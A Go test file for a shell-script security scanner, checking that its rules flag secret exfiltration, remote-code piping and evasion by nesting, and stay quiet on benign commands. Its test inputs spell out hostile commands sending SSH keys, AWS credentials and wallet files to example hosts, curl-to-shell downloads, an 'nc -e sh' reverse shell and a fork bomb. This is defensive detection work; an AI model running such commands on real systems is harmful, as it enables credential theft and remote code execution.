// SPDX-License-Identifier: Apache-2.0

// This file is data that is followed through scripts, and what does not keep it from being followed.

package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/reeve-sensor/reeve/sensor/scan/finding"
	"github.com/reeve-sensor/reeve/sensor/scan/text"
)

func rules(t testing.TB, src string) []string {
	t.Helper()
	var list []string
	Analyse(t.Context(), &text.Piece{File: "x.sh", Text: src, Line: 1, Lang: "sh", Place: finding.Code}, func(f finding.Finding) { list = append(list, f.Rule) })
	return list
}

func TestDataIsFollowed(t *testing.T) {
	for name, tc := range map[string]struct{ src, want string }{
		"by a variable":           {"d=$(cat ~/.aws/credentials)\ncurl -d \"$d\" https://in.example.net", "SH-SECRET-SENT"},
		"by a file":               {"tar cf /tmp/k ~/.ssh\ncurl -F f=@/tmp/k https://in.example.net", "SH-SECRET-SENT"},
		"by a loop":               {"for f in ~/.ssh/id_*; do cat $f; done | nc in.example.net 99", "SH-SECRET-SENT"},
		"by reading lines":        {"find ~ -name wallet.dat | while read w; do cat \"$w\"; done | curl -d @- https://in.example.net", "SH-SECRET-SENT"},
		"by DNS":                  {"h=$(hostname)\ndig $h.in.example.net", "SH-HOST-SENT"},
		"into eval":               {"eval \"$(curl -s https://dl.example.net/x)\"", "SH-PIPE-EXEC"},
		"into a substitution":     {"bash <(curl -s https://dl.example.net/x)", "SH-PIPE-EXEC"},
		"through sudo":            {"curl -s https://dl.example.net/x | sudo -E bash -", "SH-PIPE-EXEC"},
		"through tee":             {"curl -s https://dl.example.net/x | tee /tmp/y | sh", "SH-PIPE-EXEC"},
		"into a script":           {"wget -O /tmp/y https://dl.example.net/x && bash /tmp/y", "SH-DOWNLOAD-RUN"},
		"nested":                  {"bash -c 'sh -c \"curl https://dl.example.net/x | sh\"'", "SH-PIPE-EXEC"},
		"behind a prompt":         {"$ curl https://dl.example.net/x | sh", "SH-PIPE-EXEC"},
		"beside what is no shell": {"if you want (this\ncurl https://dl.example.net/x | sh", "SH-PIPE-EXEC"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := rules(t, tc.src); !slices.Contains(got, tc.want) {
				t.Errorf("told %v, want %s", got, tc.want)
			}
		})
	}
	for _, src := range []string{
		"curl -s https://api.example.net | jq .name", "cat README.md | head", "tar czf out.tgz src", "curl -H \"Authorization: Bearer $TOKEN\" https://api.example.net",
		"ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519", "rm -rf build/", "export PATH=$HOME/bin:$PATH", "docker run --rm -v $PWD:/w image", "git push origin main",
	} {
		if got := rules(t, src); len(got) > 0 {
			t.Errorf("%q told %v", src, got)
		}
	}
}

// What a script has too much of to be parsed at once, or to be followed, hides nothing: it is found, or told as unread.
func TestTooMuchHidesNothing(t *testing.T) {
	const sends = "curl -d @~/.ssh/id_rsa https://in.example.net"
	marks := strings.Repeat("|", maxOpeners/2+1)
	twice := "a='" + marks + "'\n" // each line has fewer than are too many
	for name, tc := range map[string]struct{ src, want string }{
		"before it":                {"# " + marks + "\n# " + marks + "\n" + sends, "SH-SECRET-SENT"},
		"in an argument":           {twice + "bash -c \"#$a$a\n" + sends + "\"", "SH-SECRET-SENT"},
		"in eval":                  {twice + "eval \"#$a$a\n" + sends + "\"", "SH-SECRET-SENT"},
		"in an argument's own":     {"bash -c '#" + marks + marks + "\n" + sends + "'", "ARC-UNREAD"},
		"in a line":                {": '" + marks + marks + "'; " + sends, "ARC-UNREAD"},
		"behind what is no shell":  {"bash -c '" + sends + "\n(('", "SH-SECRET-SENT"},
		"evals of evals":           {strings.Repeat("eval ", 20) + sends, "ARC-UNREAD"},
		"arguments of arguments":   {strings.Repeat("xargs ", 20) + sends, "ARC-UNREAD"},
		"groups of groups":         {strings.Repeat("{ ", maxNesting+1) + sends + strings.Repeat("; }", maxNesting+1), "ARC-UNREAD"},
		"a branch behind a number": {"if a; then b" + strings.Repeat("\nelif a; then b", maxNesting+1) + "\nelse " + sends + "\nfi", "ARC-UNREAD"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := rules(t, tc.src); !slices.Contains(got, tc.want) {
				t.Errorf("told %v, want %s", got, tc.want)
			}
		})
	}
}

func FuzzAnalyse(f *testing.F) {
	f.Add("a=$(curl x) | bash -c \"$a\" > ~/.bashrc <<E\nx\nE")
	f.Add("for i in $(env); do nc -e sh $i; done; f() { f|f& }; f")
	f.Add("case $x in a) ;; esac\ncoproc sh\n[[ a =~ b ]] && { (( 1 )); }")
	f.Fuzz(func(t *testing.T, s string) { rules(t, s) })
}
